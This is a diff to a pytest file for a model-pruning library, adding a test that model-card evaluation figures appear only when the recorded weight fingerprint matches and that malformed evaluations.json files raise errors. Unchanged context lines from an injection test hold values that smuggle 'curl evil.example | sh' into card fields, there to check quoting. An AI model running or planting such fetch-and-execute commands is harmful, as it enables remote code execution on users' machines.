@@ -3,12 +3,15 @@
 from __future__ import annotations
 
 import json
+import shutil
+from pathlib import Path
 
 import pytest
 import torch
 from transformers import AutoModelForSequenceClassification
 
 from deeparc_hf import MPruneCallback, WandaCallback, create_model_card, prune_model, save_pruned, sparsify_model
+from deeparc_hf.errors import RecordError
 from deeparc_hf.fingerprint import mark_of_files, mark_of_model
 
 from ..publishing import let_go, trained
@@ -167,3 +170,33 @@ def test_commands_in_the_card_are_quoted():
     assert "'$(curl evil.example | sh)'" in text and "\ncurl" not in text
     settings["similarity"] = "cka; curl evil.example | sh"
     assert "deeparc prune" not in section(create_model_card(model), "How to reproduce it")
+
+
+def test_figures_of_an_experiment_are_told_of_its_weights_alone(done, tmp_path):
+    folder = Path(shutil.copytree(done[1], tmp_path / "model"))
+    entry = {
+        "metrics": {"test_bleu": 0.25, "test_loss": None},
+        "intervals": {"test_bleu": [0.2, 0.3]},
+        "original": {"test_bleu": 0.5},
+        "original_intervals": {"test_bleu": [0.4, 0.6], "test_loss": [None, None]},
+        "data": {"rows": 30},
+        "weights": mark_of_files(folder),
+    }
+    speed = {"ratio": 0.7, "low": 0.6, "high": 0.8, "blocks": 0.75, "turns": 5}
+    file = folder / "evaluations.json"
+    file.write_text(json.dumps({"evaluations": [entry], "speed": speed}))
+    card = create_model_card(folder)
+    assert metrics_of(card)["test_bleu"] == 0.25 and "test_loss" not in metrics_of(card)
+    shown = section(card, "Evaluation")
+    assert "| test_bleu | 0.5000 | 0.4000 .. 0.6000 | 0.2500 | 0.2000 .. 0.3000 | 30 |" in shown
+    assert "0.700 of the original's time (0.600 .. 0.800, 5 turns, both models warm in one process); 0.750 of the blocks" in shown
+    file.write_text(json.dumps({"evaluations": [{**entry, "weights": "0" * 32}], "speed": speed}))
+    card = create_model_card(folder, overwrite=True)
+    assert "test_bleu" not in metrics_of(card) and "of the original's time" not in str(card)
+    for wrong in (3, [3], [{"metrics": 1}], [{**entry, "intervals": {"a": [1]}}], [{**entry, "intervals": {"a": "12"}}]):
+        file.write_text(json.dumps({"evaluations": wrong, "speed": None}))
+        with pytest.raises(RecordError, match=r"evaluations\.json"):
+            create_model_card(folder, overwrite=True)
+    file.write_text(json.dumps({"evaluations": [entry], "speed": {"ratio": "<b>"}}))
+    with pytest.raises(RecordError, match=r"evaluations\.json"):
+        create_model_card(folder, overwrite=True)
